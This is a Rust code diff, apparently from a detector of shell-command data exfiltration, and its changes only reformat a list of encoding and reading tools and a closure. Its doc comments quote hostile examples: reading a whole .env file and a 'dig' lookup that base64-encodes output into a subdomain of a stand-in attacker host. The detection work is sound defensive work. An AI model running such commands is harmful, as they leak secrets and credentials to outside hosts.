@@ -100,9 +100,8 @@ fn taint(part: &Part, sending: &Sending, inv: &Invocation, cx: &Cx, flow: &Flow)
 }
 
 /// What turns up in a name only to be carried away by it.
-const ENCODERS: &[&str] = &[
-    "base64", "base32", "xxd", "od", "hexdump", "id", "cat", "env", "printenv", "md5sum", "sha1sum", "sha256sum",
-];
+const ENCODERS: &[&str] =
+    &["base64", "base32", "xxd", "od", "hexdump", "id", "cat", "env", "printenv", "md5sum", "sha1sum", "sha256sum"];
 
 /// `$(cat .env)`: all of it, not the one value in it that logs in somewhere.
 fn is_whole_file(taint: &Taint, value: &Value, cx: &Cx) -> bool {
@@ -121,11 +120,7 @@ fn is_whole_file(taint: &Taint, value: &Value, cx: &Cx) -> bool {
 /// `dig $(… | base64).evil.example`: output that somebody took care to encode as a name.
 fn encoded_name(value: &Value, role: Role, cx: &Cx) -> Option<Taint> {
     let encoder = |index: usize| {
-        cx.line
-            .invocations
-            .get(index)
-            .and_then(Invocation::name)
-            .is_some_and(|name| ENCODERS.contains(&name))
+        cx.line.invocations.get(index).and_then(Invocation::name).is_some_and(|name| ENCODERS.contains(&name))
     };
     let below = |index: usize| match cx.line.invocations.get(index).map(|inv| &inv.stdin) {
         Some(Stdin::Pipe(from)) => from.iter().take(16).any(|from| encoder(*from)),
